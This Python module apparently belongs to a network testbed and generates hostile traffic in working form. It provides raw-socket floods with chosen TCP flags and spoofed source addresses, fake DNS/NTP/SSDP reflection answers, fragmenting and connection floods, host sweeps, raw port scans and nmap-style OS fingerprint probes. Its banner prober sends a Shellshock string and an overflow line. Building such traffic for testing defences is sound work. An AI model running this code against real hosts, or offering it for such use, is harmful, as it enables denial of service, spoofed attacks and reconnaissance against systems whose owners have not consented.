"""Raw IP senders over IPv4 and IPv6: floods with any flags, reflected answers, sweeps, scans, OS probes.

Run by `converter.testbed.hostile`, which refuses outside a ward. Every one is bounded by a count.
In: options as JSON gave them. Raises what sockets raise; remembers nothing.
"""

import select
import socket
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from random import Random
from typing import Any

from converter.testbed import wire_ip
from converter.testbed.pacing import pace

Options = dict[str, Any]

PROTOCOLS = {"tcp": 6, "udp": 17, "icmp": 1, "icmp6": 58}


def raw_socket(dst: str) -> socket.socket:
    """A socket that takes whole IP packets."""
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


def own_address(dst: str) -> str:
    """The address that the kernel would send from."""
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.connect((dst, 9))
        return str(s.getsockname()[0])


def _public(rng: Random, dst: str) -> str:
    if ":" in dst:
        return f"2a0{rng.randrange(10)}:{rng.randrange(65536):x}::{rng.randrange(1, 65536):x}"
    first = rng.choice((23, 45, 62, 81, 93, 104, 151, 185))
    return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _source(o: Options, rng: Random, own: str) -> Callable[[], str]:
    """What `spoof` asks for: nothing, `public`, `subnet` (neighbours that may not exist), or N servers."""
    how = o.get("spoof", "")
    if how == "public":
        return lambda: _public(rng, o["dst"])
    if how == "subnet":
        return lambda: f"{own.rsplit('.', 1)[0]}.{rng.randrange(2, 254)}"
    if how:
        servers = [_public(rng, o["dst"]) for _ in range(int(how))]
        return lambda: rng.choice(servers)
    return lambda: own


def _answer(shape: str, rng: Random) -> bytes:
    """A server's answer as an amplifier sends it: DNS (RFC 1035), NTP mode 7, SSDP; made up."""
    if shape == "dns":
        head = struct.pack("!HHHHHH", rng.randrange(65536), 0x8180, 1, 12, 0, 1)
        return (
            head + b"\x04ward\x04test\x00\x00\xff\x00\x01" + rng.randbytes(rng.randrange(300, 1300))
        )
    if shape == "ntp":
        return b"\xd7\x00\x03\x2a\x00\x06\x00\x48" + rng.randbytes(432)
    text = f"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nUSN: uuid:{rng.randrange(10**9)}\r\n"
    return (
        (text + "EXT:\r\nSERVER: ward/1.0 UPnP/1.0\r\n\r\n").encode().ljust(rng.randrange(200, 330))
    )


def raw_flood(o: Options) -> None:
    """Packets of one protocol to a victim; flags, ports, sources and sizes as told."""
    rng, dst, own = Random(o["seed"]), o["dst"], own_address(o["dst"])
    source, protocol = _source(o, rng, own), PROTOCOLS[o["protocol"]]
    with raw_socket(dst) as s:
        for _ in pace(o["rate"], o["count"]):
            ends = (source(), dst)
            body = _body(o, rng, ends)
            with suppress(OSError):
                packet = wire_ip.datagram(*ends, protocol, body, ident=rng.randrange(1, 65536))
                s.sendto(packet, (dst, 0))


def _body(o: Options, rng: Random, ends: tuple[str, str]) -> bytes:
    port = o.get("port") or rng.randrange(1, 65536)
    sport = o.get("sport") or rng.randrange(1024, 65535)
    filler = b"w" * rng.choice(o.get("sizes") or [0])
    if o["protocol"] == "tcp":
        flags = rng.choice(o["flags"])
        return wire_ip.tcp(
            ends,
            (sport, port),
            flags,
            seq=rng.randrange(2**32),
            ack=rng.randrange(2**32) if flags & 16 else 0,
            options=wire_ip.MSS if flags & 2 else b"",
            payload=filler,
        )
    if o["protocol"] == "udp":
        payload = _answer(o["shape"], rng) if o.get("shape") else filler
        return wire_ip.udp(ends, (sport, port), payload)
    kind, code = rng.choice(o["types"])
    return wire_ip.icmp(ends, kind, code, rng.randbytes(4) + filler)


def big_datagrams(o: Options) -> None:
    """UDP datagrams above the MTU: the kernel cuts each into fragments."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in pace(o["rate"], o["count"]):
            with suppress(OSError):
                s.sendto(b"w" * o["size"], (o["dst"], o["port"]))


def tcp_data(o: Options) -> None:
    """Small segments on connections that were opened properly; opened again when the server ends them."""
    held: list[socket.socket | None] = [None] * o["connections"]
    for i in pace(o["rate"], o["count"]):
        at = i % len(held)
        with suppress(OSError):
            s = held[at]
            if s is None:
                s = held[at] = socket.create_connection((o["dst"], o["port"]), 2)
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            try:
                s.sendall(b"w" * o["size"])
            except OSError:
                s.close()
                held[at] = None
    for s in held:
        if s is not None:
            s.close()


def probe_hosts(o: Options) -> None:
    """One probe to each target in turn: `connect` and `udp` by the kernel, `echo` by a raw socket."""
    left: list[socket.socket] = []
    for i in pace(o["rate"], len(o["targets"])):
        dst = o["targets"][i]
        family = socket.AF_INET6 if ":" in dst else socket.AF_INET
        with suppress(OSError):
            if o["probe"] == "echo":
                _echo(family, dst, i)
                continue
            kind = socket.SOCK_STREAM if o["probe"] == "connect" else socket.SOCK_DGRAM
            s = socket.socket(family, kind)
            s.setblocking(False)
            left.append(s)
            port = o["ports"][i % len(o["ports"])]
            if o["probe"] == "connect":
                s.connect_ex((dst, port))
            else:
                s.sendto(b"\x00" * 8, (dst, port))
        while len(left) > 60:
            left.pop(0).close()
    time.sleep(1)
    for s in left:
        s.close()


def _echo(family: int, dst: str, number: int) -> None:
    """ICMPv6's checksum is the kernel's business on a raw ICMPv6 socket."""
    v6 = family == socket.AF_INET6
    own = own_address(dst) if not dst.startswith("ff") else "::"
    protocol = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    body = wire_ip.icmp((own, dst), 128 if v6 else 8, 0, struct.pack("!HH", 77, number) + bytes(16))
    with socket.socket(family, socket.SOCK_RAW, protocol) as s:
        where = (dst, 0, 0, socket.if_nametoindex("eth0")) if dst.startswith("ff") else (dst, 0)
        s.sendto(body, where)


def probe_ports(o: Options) -> None:
    """One raw probe to each port, in the order given; `flags` of a segment, or UDP without any."""
    rng, dst, own = Random(o["seed"]), o["dst"], own_address(o["dst"])
    with raw_socket(dst) as s:
        for i in pace(o["rate"], len(o["ports"])):
            ends, ports = (own, dst), (rng.randrange(1024, 65535), o["ports"][i])
            if o["flags"]:
                body = wire_ip.tcp(ends, ports, o["flags"], seq=rng.randrange(2**32))
            else:
                body = wire_ip.udp(ends, ports, b"")
            with suppress(OSError):
                protocol = 6 if o["flags"] else 17
                s.sendto(wire_ip.datagram(*ends, protocol, body, ident=i + 1), (dst, 0))
    time.sleep(0.5)


_WIDE = bytes.fromhex("03030a0102040109080affffffff000000000402")
"""Options as fingerprinting tools send them: window scale, NOP, MSS, timestamps, SACK permitted."""


def _fingerprints(o: Options) -> list[tuple[int, bytes, int]]:
    """(protocol, kind or flags, port) probes: six SYNs with options, ECN, T2 to T7, two echoes, timestamp, mask, UDP.

    Source: the probes that nmap's book describes (chapter 8) and those of xprobe2 (ICMP queries).
    """
    is_open, shut = o["open"], o["shut"]
    out = [(6, bytes((2,)), is_open)] * 6 + [(6, bytes((0xC2,)), is_open)]
    out += [(6, bytes((0,)), is_open), (6, bytes((0x2B,)), is_open), (6, bytes((16,)), is_open)]
    out += [(6, bytes((2,)), shut), (6, bytes((16,)), shut), (6, bytes((0x29,)), shut)]
    pings = [(1, bytes((8, 9)), 0), (1, bytes((8, 0)), 0)]
    queries = [(1, bytes((13, 0)), 0), (1, bytes((15, 0)), 0), (1, bytes((17, 0)), 0)]
    closed = [(17, b"", shut)]
    return queries + pings + closed + out[:1] + out[11:12] if o["icmp"] else out + pings + closed


def os_probes(o: Options) -> None:
    """A fingerprint's set of probes, `rounds` times; with `icmp`, mostly ICMP queries."""
    rng, dst, own = Random(o["seed"]), o["dst"], own_address(o["dst"])
    probes = _fingerprints(o) * o["rounds"]
    ends = (own, dst)
    with raw_socket(dst) as s:
        for i in pace(o["rate"], len(probes)):
            protocol, what, port = probes[i]
            sport = rng.randrange(30000, 60000)
            if protocol == 6:
                window = rng.choice((1, 63, 4, 16, 512, 3, 128, 256, 1024, 31337))
                body = wire_ip.tcp(
                    ends,
                    (sport, port),
                    what[0],
                    seq=rng.randrange(2**32),
                    window=window,
                    options=_WIDE,
                )
            elif protocol == 17:
                body = wire_ip.udp(ends, (sport, port), b"C" * 300)
            else:
                body = wire_ip.icmp(ends, what[0], what[1], rng.randbytes(4) + bytes(120))
            s.sendto(wire_ip.datagram(*ends, protocol, body, ident=0x1042), (dst, 0))
    time.sleep(0.5)


def banner_probe(o: Options) -> None:
    """Opens known ports, waits for a greeting, says what old flaws react to, and leaves."""
    words: tuple[bytes, ...] = (
        b"GET / HTTP/1.0\r\n\r\n",
        b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x05\x00\x00",
    )
    words += (b"\x82\x09\x00\x01\x00\x04$SYS\x00", b"HELP\r\n", b"\x16\x03\x00\x00\x2e\x01\x00\x00")
    words += (b"OPTIONS * HTTP/1.1\r\n\r\n", b"() { :; }; echo\r\n", b"A" * 1200 + b"\r\n")
    for i in pace(o["rate"], o["count"]):
        with suppress(OSError):
            port = o["ports"][i % len(o["ports"])]
            with socket.create_connection((o["dst"], port), 1) as s:
                s.sendall(words[i % len(words)])
                if select.select([s], [], [], 0.3)[0]:
                    s.recv(4096)


TOOLS: tuple[Callable[[Options], None], ...] = (
    raw_flood, big_datagrams, tcp_data, probe_hosts, probe_ports, os_probes, banner_probe,
)  # fmt: skip
